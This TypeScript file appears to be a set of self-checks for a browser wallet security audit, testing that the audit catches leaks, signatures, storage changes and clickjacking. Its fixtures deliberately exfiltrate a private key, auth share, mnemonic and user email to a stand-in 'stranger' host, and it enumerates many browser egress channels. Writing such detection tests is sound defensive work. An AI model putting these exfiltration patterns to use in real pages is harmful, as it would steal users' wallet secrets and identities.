import { deepStrictEqual, ok } from 'node:assert/strict'
import type { PageKit } from '@latchkey/conformance'
import type { Page } from '@playwright/test'
import { chromiumTab } from '../lanes/chromiumTab.ts'
import type { ChromiumLane } from '../lanes/openChromiumLane.ts'
import { ask, openWallet, realmAt, signByHand, until } from '../stage/testUser.ts'
import { clickInPlainSight } from './clickjacking.ts'
import { egressWays, scriptOf } from './egress.ts'

declare const kit: PageKit

/** The audit's findings after an action of the listed page, and their source. */
type Found = { traces: string[]; service: string[] }

/** The audit must be able to fail: each of these leaks, signs, changes or breaks something, and the audit must find it. */
export type SelfCheck = { name: string; check(lane: ChromiumLane): Promise<void> }

const auditAfter = async (lane: ChromiumLane, deed: (page: Page) => Promise<unknown>): Promise<Found> => {
  const { ground, open, close } = lane.openGround()
  try {
    const page = await ground.openPage()
    await openWallet(lane.stage, chromiumTab(page))
    await deed(page)
    return { traces: await lane.auditTraces(open()), service: await lane.auditService() }
  } finally {
    await close()
  }
}

const mustInclude = (found: readonly string[], ...wanted: readonly string[]): void => {
  for (const each of wanted) ok(found.join('\n').includes(each), `${each} is not among: ${found.join('\n')}`)
}

const hex = (bytes: Uint8Array | undefined): string => Buffer.from(bytes ?? []).toString('hex')

export const selfChecks: readonly SelfCheck[] = [
  {
    name: 'finds nothing where nothing happens',
    check: async (lane) => deepStrictEqual(await auditAfter(lane, async () => undefined), { traces: [], service: [] }),
  },
  {
    name: 'finds a secret in the console, in messages, in storage and on its way to a stranger',
    check: async (lane) => {
      const { secrets, testUser, stage } = lane
      const { traces } = await auditAfter(lane, (page) =>
        page.evaluate(
          async ({ key, share, words, stranger, email }) => {
            console.info(key)
            postMessage(share, location.origin)
            const { port1, port2 } = new MessageChannel()
            port2.start()
            port1.postMessage(words)
            await fetch(`${stranger}/leak/${key}`, { mode: 'no-cors' })
            await fetch(`${stranger}/who`, { mode: 'no-cors', method: 'POST', body: email })
          },
          {
            key: hex(secrets.bytes['private key']),
            share: hex(secrets.bytes['auth share']),
            words: secrets.words.join(' '),
            stranger: stage.urls.stranger,
            email: testUser.email,
          },
        ),
      )
      const { host } = new URL(stage.urls.stranger)
      mustInclude(
        traces,
        'leaked: console: private key',
        `leaked: message at ${stage.urls.listed}: auth share`,
        `leaked: sent through a port at ${stage.urls.listed}: mnemonic`,
        `leaked: ${host} was asked for /leak/${hex(secrets.bytes['private key'])}`,
        `leaked: ${host} was told who the user is`,
      )
    },
  },
  {
    name: 'finds a stranger whom the wallet has told something',
    check: async (lane) => {
      const { stage, testUser } = lane
      const { traces } = await auditAfter(lane, async (page) => {
        const tab = chromiumTab(page)
        await tab.evaluate((url) => kit.embed(url).then(() => undefined), `${stage.urls.stranger}/`)
        const wallet = realmAt(tab, stage.urls.wallet)
        await wallet.evaluate((email) => parent.frames[1]?.postMessage({ email }, '*'), testUser.email)
        await until(() => realmAt(tab, stage.urls.stranger).evaluate(() => kit.heard.length > 0, undefined))
      })
      mustInclude(
        traces,
        `leaked: message at ${stage.urls.stranger}: who the user is`,
        `leaked: ${stage.urls.stranger} was told`,
      )
    },
  },
  {
    name: 'finds a signature, also by a page that is gone',
    check: async (lane) => {
      const { stage, testUser } = lane
      const sign = (page: Page): Promise<string> => signByHand(stage, chromiumTab(page), testUser.address)
      const { traces } = await auditAfter(lane, sign)
      mustInclude(
        traces,
        `signed: ${stage.urls.listed} was told`,
        `signed: come through a port at ${stage.urls.wallet}`,
      )
      const later = await auditAfter(lane, async (page) => {
        await sign(page)
        await page.goto('about:blank')
      })
      mustInclude(later.traces, `signed: come through a port at ${stage.urls.wallet}`)
    },
  },
  {
    name: 'finds that what the wallet stores is not the same',
    check: async (lane) => {
      const switchTo = (chainId: number) => (page: Page) => ask(chromiumTab(page), 'SWITCH_NETWORK', { chainId })
      deepStrictEqual((await auditAfter(lane, switchTo(1337))).service, ['changed: what the wallet stores'])
      deepStrictEqual((await auditAfter(lane, switchTo(31337))).service, [])
    },
  },
  {
    name: 'finds the signature of a user who clicks where the wallet is in plain sight',
    check: async (lane) => {
      const { ground, open, close } = lane.openGround()
      try {
        await clickInPlainSight(ground)
        mustInclude(await lane.auditTraces(open()), 'signed:')
      } finally {
        await close()
      }
    },
  },
  {
    name: 'sees the ways out of the vault: a page without a policy leaks through them',
    check: async (lane) => {
      const { stage } = lane
      const { ground, close } = lane.openGround()
      const page = await ground.openPage()
      await page.goto(`${stage.urls.listed}/`)
      const from = stage.sites.visits.length
      const expected = {
        requests: 'fetch keepalive xhr beacon socket events own',
        elements: 'img srcset script style import property font audio poster object embed svg frame',
        code: 'blob eval function timer inline handler markup srcdoc blank',
        peers: 'access',
      }
      for (const [group, names] of Object.entries(expected)) {
        await page.evaluate(scriptOf(egressWays[group] ?? {}, stage.urls.stranger))
        // Each group before the next one, which rewrites the document.
        await until(async () => {
          const visits = stage.sites.visits.slice(from).filter(({ isOfFirefox }) => !isOfFirefox)
          const leaked = visits.map(({ path }) => path.replace('/leak/', ''))
          return names.split(' ').every((name) => leaked.includes(name))
        })
      }
      await lane.auditTraces([])
      await close()
    },
  },
]
